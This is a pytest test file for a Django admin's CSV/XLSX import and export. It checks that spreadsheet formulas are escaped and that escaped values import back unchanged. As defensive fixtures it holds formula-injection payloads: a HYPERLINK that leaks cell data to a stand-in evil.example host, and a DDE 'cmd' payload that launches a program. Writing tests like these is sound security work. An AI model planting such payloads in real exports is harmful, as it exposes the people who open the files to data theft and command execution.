"""Admin import/export (django-import-export) never writes a cell a spreadsheet would run
as a formula, in CSV or XLSX, and an exported file imports back unchanged."""

import csv
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ImportExportMixinBase

from network.base.imports.admin import SpreadsheetAdminMixin
from network.base.imports.spreadsheets import (
    SAFE_FORMATS,
    SafeCSV,
    SafeXLSX,
    SpreadsheetResource,
    escape_formula,
    unescape_formula,
)
from tests import factories as f
from trusts.resources import PersonResource

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab"]


@pytest.mark.parametrize(
    "value, written",
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.45", "-0.45"),  # a number is not a formula
        ("+44", "+44"),
        ("Amira Hussain", "Amira Hussain"),
        (12, 12),
        (None, None),
    ],
)
def test_escape_formula(value, written):
    assert escape_formula(value) == written
    assert unescape_formula(written) == value


def _person_with_hostile_text():
    return f.PersonFactory(first_name=HOSTILE[0], last_name=HOSTILE[1], expertise_summary=HOSTILE[2])


def test_csv_export_writes_no_formula():
    _person_with_hostile_text()
    data = SafeCSV().export_data(PersonResource().export())
    (row,) = list(csv.DictReader(io.StringIO(data)))
    assert row["first_name"] == "'" + HOSTILE[0]
    assert row["last_name"] == "'" + HOSTILE[1]
    assert row["expertise_summary"] == "'" + HOSTILE[2]


def test_xlsx_export_writes_no_formula():
    _person_with_hostile_text()
    data = SafeXLSX().export_data(PersonResource().export())
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert not [c.value for c in cells if c.data_type == "f"]  # no cell is a formula
    assert "'" + HOSTILE[0] in [c.value for c in cells]


def test_export_from_the_admin_is_escaped(client, world):
    _person_with_hostile_text()
    client.force_login(world.coordinator)
    fields = {f"personresource_{name}": "on" for name in PersonResource._meta.fields}
    response = client.post(reverse("admin:trusts_person_export"), {"format": "0", "resource": "0", **fields})
    assert response.status_code == 200, response.content[:500]
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    assert "'+cmd|" in text


def test_an_exported_file_imports_back_unchanged():
    person = _person_with_hostile_text()
    dataset = tablib.Dataset().load(SafeCSV().export_data(PersonResource().export()), format="csv")
    person.first_name = "changed"
    person.save()
    result = PersonResource().import_data(dataset, dry_run=False, raise_errors=True)
    assert not result.has_errors() and not result.has_validation_errors()
    person.refresh_from_db()
    assert (person.first_name, person.last_name) == (HOSTILE[0], HOSTILE[1])


def test_every_import_export_admin_is_spreadsheet_safe():
    """A new import/export admin must stand on the shared base (formats and resources)."""
    found = 0
    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, ImportExportMixinBase):
            continue
        found += 1
        assert isinstance(model_admin, SpreadsheetAdminMixin), model
        assert list(model_admin.formats) == SAFE_FORMATS, model
        for resource in model_admin.get_resource_classes(None):
            assert issubclass(resource, SpreadsheetResource), (model, resource)
        assert model_admin.get_resource_classes(None), f"{model}: no resource_classes (the default is not safe)"
    assert found >= 3  # trusts, academies, people
